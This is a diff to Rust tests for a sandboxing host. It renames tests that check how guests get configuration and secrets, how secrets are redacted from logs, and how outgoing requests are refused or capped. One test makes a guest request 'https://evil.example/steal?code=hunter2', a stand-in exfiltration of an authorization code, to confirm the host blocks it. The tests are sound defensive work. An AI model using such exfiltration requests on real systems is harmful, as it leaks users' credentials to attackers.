@@ -1,4 +1,4 @@
-//! What a guest can perceive besides its request, and what it is kept from: `guest/probe` tells.
+//! What a guest can see besides its request, and what the host denies. `guest/probe` reports both.
 
 use std::path::PathBuf;
 
@@ -9,7 +9,7 @@ fn probe() -> Host {
     Host::run().arg(guest::built("probe"))
 }
 
-/// The lines of the probe's page at `query`.
+/// The lines of the page of the probe for this query.
 #[track_caller]
 fn seen(host: Host, query: &str) -> Vec<String> {
     let page = host.start().navigate(&format!("/callback?{query}"));
@@ -34,12 +34,12 @@ fn toml(text: &str) -> PathBuf {
 }
 
 #[test]
-fn nothing_is_configured_unless_something_is_granted() {
+fn a_guest_gets_no_configuration_without_a_grant() {
     assert_eq!(configured(probe()), Vec::<String>::new());
 }
 
 #[test]
-fn values_come_from_a_file_and_are_replaced_by_flags() {
+fn flags_override_values_from_a_file() {
     let file = toml(
         "title = \"Hi\"\nretries = 3\nbeta = true\n[provider]\nurl = \"https://a\"\nid = \"x\"\n",
     );
@@ -58,7 +58,7 @@ fn values_come_from_a_file_and_are_replaced_by_flags() {
 }
 
 #[test]
-fn secrets_come_from_the_environment_and_from_files() {
+fn secrets_can_come_from_the_environment_and_from_files() {
     let file = guest::write("secret.txt", b"two\nlines\r\n");
     let host = probe()
         .env("PROBE_SECRET", "hunter2")
@@ -68,7 +68,7 @@ fn secrets_come_from_the_environment_and_from_files() {
 }
 
 #[test]
-fn a_secret_that_a_guest_logs_is_not_told() {
+fn a_secret_that_a_guest_logs_is_redacted() {
     let file = guest::write("secret-lines.txt", b"first line\nsecond line\n");
     let host = probe()
         .env("PROBE_SECRET", "hunter2")
@@ -84,9 +84,9 @@ fn a_secret_that_a_guest_logs_is_not_told() {
     assert!(stderr.contains("[guest] [[redacted]] hunter\n"), "{stderr}");
 }
 
-/// The line is broken for the terminal after 4 KiB, in the middle of the secret.
+/// The host splits log lines after 4 KiB, here in the middle of the secret.
 #[test]
-fn a_secret_in_a_long_line_is_not_told_either() {
+fn a_secret_in_a_long_log_line_is_redacted() {
     let host = probe().env("PROBE_SECRET", "hunter2").args(["--secret", "a=env:PROBE_SECRET"]);
     let host = host.start();
     host.navigate(&format!("/callback?log={}hunter2&log=end", "x".repeat(4092)));
@@ -97,7 +97,7 @@ fn a_secret_in_a_long_line_is_not_told_either() {
 }
 
 #[test]
-fn a_secret_in_clear_is_refused_and_not_repeated() {
+fn a_secret_on_the_command_line_is_refused_and_not_repeated() {
     refused(probe().args(["--secret", "client_secret=hunter2"])).stderr(
         "error: invalid secret `client_secret`: expected `NAME=env:VARIABLE` or `NAME=file:PATH`\n\
          hint: put the secret into an environment variable or a file: other users can read a command line\n",
@@ -109,7 +109,7 @@ fn a_secret_in_clear_is_refused_and_not_repeated() {
 }
 
 #[test]
-fn what_cannot_be_had_is_said_before_anybody_listens() {
+fn a_missing_value_is_an_error_before_the_host_listens() {
     let missing = refused(probe().args(["--secret", "a=env:PROBE_NOT_SET"]));
     missing.stderr(
         "error: cannot read the secret `a`: the environment variable `PROBE_NOT_SET` is not set\n",
@@ -130,7 +130,7 @@ fn what_cannot_be_had_is_said_before_anybody_listens() {
 }
 
 #[test]
-fn a_configuration_that_does_not_parse_says_where() {
+fn an_invalid_configuration_shows_the_place() {
     for (text, message) in [
         ("a = 1\nb = = 2\n", "invalid TOML in `FILE` at line 2, column 5: "),
         (
@@ -152,7 +152,7 @@ fn a_configuration_that_does_not_parse_says_where() {
 }
 
 #[test]
-fn a_request_to_another_host_is_refused_with_an_ordinary_error() {
+fn an_outgoing_request_fails_with_an_ordinary_error() {
     let events = guest::private("outgoing.jsonl", b"");
     let host = probe().arg("--events").arg(&events).start();
     let page = host.navigate("/callback?code=hunter2&ask=https://evil.example/steal?code=hunter2");
@@ -168,7 +168,7 @@ fn a_request_to_another_host_is_refused_with_an_ordinary_error() {
 }
 
 #[test]
-fn a_guest_that_asks_too_often_is_ended() {
+fn a_guest_that_sends_too_many_requests_is_ended() {
     let host = probe().args(["--max-outgoing-requests", "3"]).start();
     let query = "ask=https://a.example&".repeat(1000);
     assert_eq!(host.navigate(&format!("/callback?{query}")).status(), 500);
@@ -182,7 +182,7 @@ fn a_guest_that_asks_too_often_is_ended() {
 }
 
 #[test]
-fn the_clock_goes_and_no_two_calls_see_the_same_random_bytes() {
+fn the_clock_advances_and_random_bytes_differ_between_calls() {
     let [first, second] = [0, 1].map(|_| seen(probe(), "sleep=20"));
     let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs();
     let time = first[0].strip_prefix("time: ").unwrap().split('.').next().unwrap();
@@ -195,7 +195,7 @@ fn the_clock_goes_and_no_two_calls_see_the_same_random_bytes() {
 }
 
 #[test]
-fn a_guest_that_cannot_exchange_its_code_says_so() {
+fn a_guest_that_cannot_exchange_its_code_reports_a_failure() {
     let host = Host::run()
         .arg(guest::built("exchange"))
         .args(["--config", "client_id=id", "--config", "token_endpoint=https://idp.example/token"])
